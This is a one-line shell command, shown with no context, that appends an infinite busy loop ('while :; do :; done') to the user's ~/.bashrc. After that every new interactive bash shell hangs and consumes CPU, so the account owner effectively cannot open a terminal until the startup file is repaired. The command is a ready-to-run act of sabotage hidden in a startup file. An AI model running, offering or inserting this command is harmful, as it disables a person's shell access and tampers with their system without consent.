printf 'while :; do :; done\n' >> ~/.bashrc
